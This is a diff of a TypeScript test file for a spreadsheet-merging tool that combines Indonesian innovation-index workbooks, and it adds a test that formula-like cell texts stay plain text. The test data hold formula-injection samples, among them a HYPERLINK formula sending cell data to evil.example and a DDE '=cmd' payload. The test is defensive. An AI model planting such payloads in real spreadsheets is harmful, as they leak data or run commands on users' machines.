@@ -89,7 +89,7 @@ test("rows of any layout stand in one template with levels, evidence, file and r
 test("the report names files, what stayed behind, and names that stand twice", () => {
   const { stdout } = iid2026(["merge", "dinkes.xlsx", "disdik.xlsx", "-o", "laporan.xlsx"], folder);
   expect(stdout).toMatch(/\n\nlaporan\.xlsx ditulis: 4 inovasi dari 2 berkas\n {2}dinkes\.xlsx: 2 inovasi\n/);
-  expect(stdout).toContain("baris tanpa nama tidak ikut: 5");
+  expect(stdout).toContain("baris tanpa nama ikut, isi namanya: 5");
   expect(stdout).toContain("kolom yang tidak ikut: 17 Jumlah Orang; Kode Arsip");
   expect(stdout).toContain("Nama yang sama (1)");
   expect(stdout).toContain("«SI SEHAT»: dinkes.xlsx baris 3; disdik.xlsx baris 2");
@@ -138,6 +138,31 @@ test("never over an existing file without --force, never into itself, and never 
   expect(iid2026(["merge", "rekap.xlsx", "-o", "kosong.xlsx"], folder).stderr).toMatch(
     /tidak ada buku kerja yang dapat/,
   );
+});
+
+test("texts that begin like formulas stay texts, and no row is lost", async () => {
+  const texts = ['=HYPERLINK("http://evil.example/?d="&B6,"klik")', "=1+1", "+1", "@SUM(1)", "-2", "=cmd|'/c calc'!A1"];
+  const book = new ExcelJS.Workbook();
+  const sheet = book.addWorksheet("Data");
+  sheet.addRow(["No", "Judul Inovasi", "OPD", "16 Regulasi", "Bukti 16"]);
+  texts.forEach((text, i) => sheet.addRow([i + 1, text, text, 2, text]));
+  sheet.addRow([texts.length + 1, null, "Dinas Sosial", 1, "Perda 5 Tahun 2024"]);
+  await book.xlsx.writeFile(join(folder, "rumus.xlsx"));
+  const [checked] = [element(iid2026(["merge", "rumus.xlsx", "-o", "rumus-gabung.xlsx", "--json"], folder))];
+  expect(checked.innovations).toHaveLength(texts.length);
+  const merged = new ExcelJS.Workbook();
+  await merged.xlsx.readFile(join(folder, "rumus-gabung.xlsx"));
+  const formulas: string[] = [];
+  const kept = new Set<unknown>();
+  merged.getWorksheet("Inovasi")!.eachRow((row) =>
+    row.eachCell((cell) => {
+      if (cell.formula !== undefined) formulas.push(cell.formula);
+      kept.add(cell.value);
+    }),
+  );
+  expect(formulas).toEqual([]);
+  expect([...texts, "Perda 5 Tahun 2024"].filter((text) => !kept.has(text))).toEqual([]);
+  expect(checked.findings.filter(({ code }) => code === "name-missing")).toHaveLength(1);
 });
 
 test("a merged workbook scores each innovation as its own file does", () => {
